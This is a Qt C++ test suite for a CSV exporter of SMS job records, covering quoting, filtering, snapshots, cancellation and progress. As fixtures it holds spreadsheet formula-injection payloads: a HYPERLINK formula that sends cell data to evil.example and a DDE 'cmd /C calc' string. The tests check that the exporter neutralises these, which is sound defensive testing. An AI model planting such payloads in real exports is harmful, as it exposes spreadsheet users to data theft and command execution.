#include "Database.h"
#include "DevSeed.h"
#include "JobCsvExporter.h"
#include "JobStore.h"

#include <QDir>
#include <QFile>
#include <QScopeGuard>
#include <QSignalSpy>
#include <QSqlError>
#include <QSqlQuery>
#include <QTemporaryDir>
#include <QTest>

#include <optional>

using namespace LeadRails;
using Status = JobCsvExporter::Result::Status;

Q_DECLARE_METATYPE(LeadRails::JobFilter)

namespace {

// A strict RFC 4180 reader: records end with CRLF; inside quotes anything goes, "" is a quote. Fails the
// test on anything else (a bare line feed between records, text after a closing quote...).
QList<QStringList> parseCsv(const QByteArray &bytes)
{
    const QString text = QString::fromUtf8(bytes);
    QList<QStringList> records;
    QStringList record;
    QString field;
    bool quoted = false;
    bool wasQuoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c != QLatin1Char('"')) {
                field += c;
            } else if (i + 1 < text.size() && text.at(i + 1) == QLatin1Char('"')) {
                field += c;
                ++i;
            } else {
                quoted = false;
            }
        } else if (c == QLatin1Char('"')) {
            [&] { QVERIFY2(field.isEmpty() && !wasQuoted, "a quote inside an unquoted field"); }();
            quoted = wasQuoted = true;
        } else if (c == QLatin1Char(',')) {
            record.append(field);
            field.clear();
            wasQuoted = false;
        } else if (c == QLatin1Char('\r') && i + 1 < text.size() && text.at(i + 1) == QLatin1Char('\n')) {
            record.append(field);
            records.append(record);
            record.clear();
            field.clear();
            wasQuoted = false;
            ++i;
        } else {
            [&] {
                QVERIFY2(c != QLatin1Char('\r') && c != QLatin1Char('\n'),
                         "a bare line break outside quotes");
                QVERIFY2(!wasQuoted, "text after a closing quote");
            }();
            field += c;
        }
    }
    [&] {
        QVERIFY2(!quoted, "an unterminated quote");
        QVERIFY2(record.isEmpty() && field.isEmpty(), "the last record does not end with CRLF");
    }();
    return records;
}

QList<QStringList> readCsv(const QString &path)
{
    QFile file(path);
    [&] { QVERIFY2(file.open(QIODevice::ReadOnly), qPrintable(path)); }();
    QByteArray bytes = file.readAll();
    // Excel reads a CSV without it in the legacy code page, and mangles every accented name.
    [&] {
        QVERIFY2(bytes.startsWith("\xEF\xBB\xBF"), "the file does not start with a UTF-8 byte order mark");
    }();
    return parseCsv(bytes.mid(3));
}

QList<qint64> ids(const QList<QStringList> &records)
{
    QList<qint64> list;
    for (qsizetype i = 1; i < records.size(); ++i)
        list.append(records.at(i).constFirst().toLongLong());
    return list;
}

QList<qint64> ids(const QList<Job> &jobs)
{
    QList<qint64> list;
    for (const Job &job : jobs)
        list.append(job.id);
    return list;
}

} // namespace

// Jobs to CSV off the GUI thread: fields a spreadsheet reads as text, the view's filter and order, one
// snapshot, nothing left behind on cancel or failure, progress up to the total.
class tst_JobCsvExporter : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void init();
    void cleanup();

    void shouldQuoteAndNeutraliseFields_data();
    void shouldQuoteAndNeutraliseFields();
    void shouldWriteEveryColumnReadableBack();
    void shouldWriteOnlyFilteredRowsInTheViewsOrder_data();
    void shouldWriteOnlyFilteredRowsInTheViewsOrder();
    void shouldWriteOneSnapshotWhileJobsArrive();
    void shouldLeaveNothingBehindWhenCanceled();
    void shouldCancelOnTheWorkerThread();
    void shouldExplainWhyTheFileCannotBeWritten_data();
    void shouldExplainWhyTheFileCannotBeWritten();
    void shouldReportProgressUpToTheTotal();
    void shouldRunOneExportAtATime();

private:
    QString databasePath() const { return m_root.filePath(QStringLiteral("leadrails.sqlite")); }
    QString outPath(const QString &name = QStringLiteral("jobs.csv")) const { return m_out->filePath(name); }
    QStringList outFiles() const { return QDir(m_out->path()).entryList(QDir::Files | QDir::Hidden); }

    QTemporaryDir m_root;
    std::optional<QTemporaryDir> m_out;
    std::unique_ptr<Database> m_db;
    std::unique_ptr<JobStore> m_store;
    QStringList m_destinationIds;
    qint64 m_trickyId = 0;
    static constexpr int kJobs = 2 * JobCsvExporter::pageSize + 500; // three pages
};

void tst_JobCsvExporter::initTestCase()
{
    QVERIFY(m_root.isValid());
    QString error;
    m_db = Database::open(databasePath(), &error);
    QVERIFY2(m_db, qPrintable(error));
    m_store = std::make_unique<JobStore>(*m_db, QStringLiteral("tester"));
    DevSeed::Options options;
    options.jobs = kJobs;
    options.destinations = 2;
    const auto seeded = DevSeed::run(*m_db, options);
    QVERIFY2(seeded.ok, qPrintable(seeded.error));
    m_destinationIds = seeded.destinationIds;

    // The newest job carries everything CSV and spreadsheets trip over.
    m_trickyId = m_store->jobs({}, 1).constFirst().id;
    QSqlQuery query(m_db->connection());
    query.prepare(QStringLiteral("UPDATE jobs SET body = ?, error_message = ?, twilio_sid = ? WHERE id = ?"));
    query.addBindValue(
        QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Hi, \"\"Ada\"\"\")\nline 2\r\n"
                       "línea 3 ☃"));
    query.addBindValue(QStringLiteral("@SUM(1+1)"));
    query.addBindValue(QStringLiteral("-2+3+cmd|' /C calc'!A0"));
    query.addBindValue(m_trickyId);
    QVERIFY2(query.exec(), qPrintable(Database::describe(query.lastError())));
}

void tst_JobCsvExporter::init()
{
    m_out.emplace();
    QVERIFY(m_out->isValid());
}

void tst_JobCsvExporter::cleanup()
{
    m_out.reset();
}

void tst_JobCsvExporter::shouldQuoteAndNeutraliseFields_data()
{
    QTest::addColumn<QString>("value");
    QTest::addColumn<QString>("field");
    QTest::newRow("plain") << QStringLiteral("Hello Ada") << QStringLiteral("Hello Ada");
    QTest::newRow("empty") << QString() << QString();
    QTest::newRow("accents and emoji")
        << QStringLiteral("¡Hola, señor! 🎉") << QStringLiteral("\"¡Hola, señor! 🎉\"");
    QTest::newRow("comma") << QStringLiteral("a,b") << QStringLiteral("\"a,b\"");
    QTest::newRow("quotes doubled") << QStringLiteral("say \"hi\"") << QStringLiteral("\"say \"\"hi\"\"\"");
    QTest::newRow("line feed") << QStringLiteral("one\ntwo") << QStringLiteral("\"one\ntwo\"");
    QTest::newRow("CRLF") << QStringLiteral("one\r\ntwo") << QStringLiteral("\"one\r\ntwo\"");
    QTest::newRow("formula =") << QStringLiteral("=1+1") << QStringLiteral("'=1+1");
    QTest::newRow("formula +") << QStringLiteral("+A1") << QStringLiteral("'+A1");
    QTest::newRow("formula -") << QStringLiteral("-A1*2") << QStringLiteral("'-A1*2");
    QTest::newRow("formula @") << QStringLiteral("@SUM(A1:A9)") << QStringLiteral("'@SUM(A1:A9)");
    QTest::newRow("DDE") << QStringLiteral("-2+3+cmd|' /C calc'!A0")
                         << QStringLiteral("'-2+3+cmd|' /C calc'!A0");
    QTest::newRow("tab before formula") << QStringLiteral("\t=1+1") << QStringLiteral("'\t=1+1");
    QTest::newRow("CR before formula") << QStringLiteral("\r=1+1") << QStringLiteral("\"'\r=1+1\"");
    QTest::newRow("formula and quoting") << QStringLiteral("=HYPERLINK(\"http://x\",\"y\")")
                                         << QStringLiteral("\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"");
    QTest::newRow("E.164 stays exact") << QStringLiteral("+14155552671") << QStringLiteral("+14155552671");
    QTest::newRow("negative number") << QStringLiteral("-3") << QStringLiteral("-3");
    QTest::newRow("decimal") << QStringLiteral("-2.5") << QStringLiteral("-2.5");
    QTest::newRow("phone with spaces is text")
        << QStringLiteral("+1 415 555 2671") << QStringLiteral("'+1 415 555 2671");
    QTest::newRow("sign alone") << QStringLiteral("-") << QStringLiteral("'-");
    QTest::newRow("= later is harmless") << QStringLiteral("a=b") << QStringLiteral("a=b");
}

void tst_JobCsvExporter::shouldQuoteAndNeutraliseFields()
{
    QFETCH(QString, value);
    QFETCH(QString, field);
    QCOMPARE(JobCsvExporter::csvField(value), field);
}

void tst_JobCsvExporter::shouldWriteEveryColumnReadableBack()
{
    JobFilter filter;
    filter.text = QStringLiteral("evil.example");
    const auto result = JobCsvExporter::write(*m_db, filter, outPath());
    QCOMPARE(result.status, Status::Written);
    QCOMPARE(result.rows, 1);
    const QList<QStringList> records = readCsv(outPath());
    QCOMPARE(records.size(), 2);
    QCOMPARE(records.at(0), JobCsvExporter::header());
    QCOMPARE(records.at(0),
             QString::fromLatin1("id,created_at,status,destination,to,body,segments,twilio_sid,error_code,"
                                 "error_message,test")
                 .split(QLatin1Char(',')));
    const Job job = *m_store->job(m_trickyId);
    const QStringList row = records.at(1);
    QCOMPARE(row.size(), JobCsvExporter::header().size());
    QCOMPARE(row.at(0).toLongLong(), m_trickyId);
    QCOMPARE(QDateTime::fromString(row.at(1), Qt::ISODate),
             job.createdAt.addMSecs(-job.createdAt.time().msec()));
    QCOMPARE(row.at(2), jobStateId(job.state));
    QVERIFY2(row.at(3).startsWith(QLatin1String("Sample")), qPrintable(row.at(3))); // the name, not the id
    QCOMPARE(row.at(4), job.to);
    // The text comes back exactly, behind the apostrophe that keeps spreadsheets from running it.
    QCOMPARE(row.at(5), QLatin1Char('\'') + job.body);
    QVERIFY(row.at(5).contains(QStringLiteral("\nline 2\r\nlínea 3 ☃")));
    QCOMPARE(row.at(6).toInt(), job.segments);
    QCOMPARE(row.at(7), QStringLiteral("'-2+3+cmd|' /C calc'!A0"));
    QCOMPARE(row.at(9), QStringLiteral("'@SUM(1+1)"));
    QCOMPARE(row.at(10), job.test ? QStringLiteral("1") : QStringLiteral("0"));
}

void tst_JobCsvExporter::shouldWriteOnlyFilteredRowsInTheViewsOrder_data()
{
    QTest::addColumn<JobFilter>("filter");
    QTest::addColumn<bool>("everything");
    QTest::newRow("every job, newest first") << JobFilter{} << true;
    JobFilter delivered;
    delivered.states = {JobState::Delivered};
    QTest::newRow("delivered") << delivered << false;
    JobFilter failedAtOne;
    failedAtOne.states = {JobState::Failed, JobState::Undelivered};
    failedAtOne.destinationId = m_destinationIds.value(0);
    QTest::newRow("failed or undelivered at one destination") << failedAtOne << false;
    JobFilter lastWeek;
    lastWeek.from = QDateTime::currentDateTimeUtc().addDays(-7);
    lastWeek.to = QDateTime::currentDateTimeUtc().addDays(1);
    QTest::newRow("last week") << lastWeek << false;
    JobFilter oldest;
    oldest.order = JobOrder::OldestFirst;
    QTest::newRow("oldest first") << oldest << true;
    JobFilter byStatus;
    byStatus.order = JobOrder::StatusThenNewest;
    byStatus.onlyTest = true;
    QTest::newRow("test sends by status") << byStatus << false;
}

void tst_JobCsvExporter::shouldWriteOnlyFilteredRowsInTheViewsOrder()
{
    QFETCH(JobFilter, filter);
    QFETCH(bool, everything);
    const int expected = m_store->count(filter);
    QVERIFY(expected > 0);
    QCOMPARE(expected == kJobs, everything);
    const auto result = JobCsvExporter::write(*m_db, filter, outPath());
    QCOMPARE(result.status, Status::Written);
    QCOMPARE(result.rows, expected);
    const QList<QStringList> records = readCsv(outPath());
    QCOMPARE(records.size(), expected + 1);
    // The same rows in the same order as the view pages them.
    QCOMPARE(ids(records), ids(m_store->jobs(filter, expected)));
    if (!filter.states.isEmpty()) {
        for (qsizetype i = 1; i < records.size(); ++i)
            QVERIFY(filter.states.contains(*jobStateFromId(records.at(i).at(2))));
    }
}

void tst_JobCsvExporter::shouldWriteOneSnapshotWhileJobsArrive()
{
    // Another connection (the dispatcher, an enqueue from the CLI) adds jobs spread over the same days after
    // the first page: newest-first pages would shift under the export without one snapshot. A database of its
    // own, so the other tests keep their count.
    QTemporaryDir dir;
    QString error;
    auto exportDb = Database::open(dir.filePath(QStringLiteral("leadrails.sqlite")), &error);
    QVERIFY2(exportDb, qPrintable(error));
    auto writerDb = Database::open(exportDb->path(), &error);
    QVERIFY2(writerDb, qPrintable(error));
    DevSeed::Options options;
    options.jobs = kJobs;
    QVERIFY(DevSeed::run(*exportDb, options).ok);
    const QList<qint64> before = ids(JobStore(*exportDb).jobs({}, kJobs + 1));
    QCOMPARE(before.size(), kJobs);

    bool added = false;
    const auto result =
        JobCsvExporter::write(*exportDb, {}, outPath(), nullptr, [&](qint64 written, qint64 total) {
            QCOMPARE(total, kJobs);
            if (!added && written < total) {
                DevSeed::Options more;
                more.jobs = 700;
                more.destinations = 1;
                more.randomSeed = 7;
                const auto seeded = DevSeed::run(*writerDb, more);
                QVERIFY2(seeded.ok, qPrintable(seeded.error));
                added = true;
            }
        });
    QVERIFY(added);
    QCOMPARE(result.status, Status::Written);
    QCOMPARE(result.rows, kJobs);
    QCOMPARE(ids(readCsv(outPath())), before);
    QCOMPARE(JobStore(*exportDb).count({}), kJobs + 700); // and they did land
}

void tst_JobCsvExporter::shouldLeaveNothingBehindWhenCanceled()
{
    // A file from an earlier export stays as it was.
    QFile earlier(outPath());
    QVERIFY(earlier.open(QIODevice::WriteOnly));
    earlier.write("earlier export\r\n");
    earlier.close();

    std::atomic_bool cancel{false};
    QByteArray targetWhileWriting;
    const auto result = JobCsvExporter::write(*m_db, {}, outPath(), &cancel, [&](qint64 written, qint64) {
        QVERIFY(written > 0);
        QFile target(outPath());
        QVERIFY(target.open(QIODevice::ReadOnly));
        targetWhileWriting = target.readAll();
        cancel = true;
    });
    QCOMPARE(result.status, Status::Canceled);
    QCOMPARE(result.rows, JobCsvExporter::pageSize);
    QCOMPARE(targetWhileWriting, QByteArray("earlier export\r\n")); // the rows go elsewhere until complete
    QCOMPARE(outFiles(), QStringList{QStringLiteral("jobs.csv")});  // and no temporary file is left
    QVERIFY(earlier.open(QIODevice::ReadOnly));
    QCOMPARE(earlier.readAll(), QByteArray("earlier export\r\n"));
}

void tst_JobCsvExporter::shouldCancelOnTheWorkerThread()
{
    JobCsvExporter exporter(databasePath());
    QSignalSpy canceled(&exporter, &JobCsvExporter::canceled);
    QSignalSpy finished(&exporter, &JobCsvExporter::finished);
    QVERIFY(exporter.start({}, outPath()));
    QVERIFY(exporter.isRunning());
    exporter.cancel();
    QVERIFY(canceled.wait(10000));
    QVERIFY(!exporter.isRunning());
    QCOMPARE(finished.count(), 0);
    QCOMPARE(outFiles(), QStringList());

    // Destroying a running exporter cancels it too, and waits for its thread.
    {
        JobCsvExporter dropped(databasePath());
        QVERIFY(dropped.start({}, outPath(QStringLiteral("dropped.csv"))));
    }
    QCOMPARE(outFiles(), QStringList());
}

void tst_JobCsvExporter::shouldExplainWhyTheFileCannotBeWritten_data()
{
    QTest::addColumn<QString>("folder");
    QTest::addColumn<bool>("readOnly");
    QTest::addColumn<QString>("message");
    QTest::newRow("missing folder") << QStringLiteral("gone") << false << QStringLiteral("does not exist");
    QTest::newRow("read-only folder") << QStringLiteral("locked") << true << QStringLiteral("is read-only");
}

void tst_JobCsvExporter::shouldExplainWhyTheFileCannotBeWritten()
{
    QFETCH(QString, folder);
    QFETCH(bool, readOnly);
    QFETCH(QString, message);
    const QString dir = m_out->filePath(folder);
    if (readOnly) {
        QVERIFY(QDir().mkdir(dir));
        QVERIFY(QFile::setPermissions(dir, QFile::ReadOwner | QFile::ExeOwner));
        QFile probe(QDir(dir).filePath(QStringLiteral("probe")));
        if (probe.open(QIODevice::WriteOnly)) {
            probe.remove();
            QSKIP("Permissions do not stop this user (root?) from writing.");
        }
    }
    const auto cleanupPermissions = qScopeGuard(
        [&] { QFile::setPermissions(dir, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner); });
    JobCsvExporter exporter(databasePath());
    QSignalSpy failed(&exporter, &JobCsvExporter::failed);
    QVERIFY(exporter.start({}, QDir(dir).filePath(QStringLiteral("jobs.csv"))));
    QVERIFY(failed.wait(10000));
    const QString error = failed.at(0).at(0).toString();
    QVERIFY2(error.contains(QDir::toNativeSeparators(dir)) && error.contains(message), qPrintable(error));
    QVERIFY(!QFile::exists(QDir(dir).filePath(QStringLiteral("jobs.csv"))));
}

void tst_JobCsvExporter::shouldReportProgressUpToTheTotal()
{
    JobCsvExporter exporter(databasePath());
    QSignalSpy progress(&exporter, &JobCsvExporter::progress);
    QSignalSpy finished(&exporter, &JobCsvExporter::finished);
    QVERIFY(exporter.start({}, outPath()));
    QVERIFY(finished.wait(30000));
    QCOMPARE(finished.at(0).at(0).toLongLong(), kJobs);
    QCOMPARE(finished.at(0).at(1).toString(), outPath());
    QCOMPARE(progress.count(), (kJobs + JobCsvExporter::pageSize - 1) / JobCsvExporter::pageSize);
    qint64 last = 0;
    for (const QList<QVariant> &args : std::as_const(progress)) {
        QVERIFY(args.at(0).toLongLong() > last);
        QCOMPARE(args.at(1).toLongLong(), kJobs);
        last = args.at(0).toLongLong();
    }
    QCOMPARE(last, kJobs);
    QCOMPARE(readCsv(outPath()).size(), kJobs + 1);
}

void tst_JobCsvExporter::shouldRunOneExportAtATime()
{
    JobCsvExporter exporter(databasePath());
    QSignalSpy finished(&exporter, &JobCsvExporter::finished);
    QVERIFY(exporter.start({}, outPath()));
    QVERIFY(!exporter.start({}, outPath(QStringLiteral("second.csv"))));
    QVERIFY(finished.wait(30000));
    QCOMPARE(outFiles(), QStringList{QStringLiteral("jobs.csv")});
    // And another may start once it is done.
    QVERIFY(exporter.start({}, outPath(QStringLiteral("second.csv"))));
    QVERIFY(finished.wait(30000));
    QCOMPARE(outFiles().size(), 2);
}

QTEST_GUILESS_MAIN(tst_JobCsvExporter)
#include "tst_jobcsvexporter.moc"
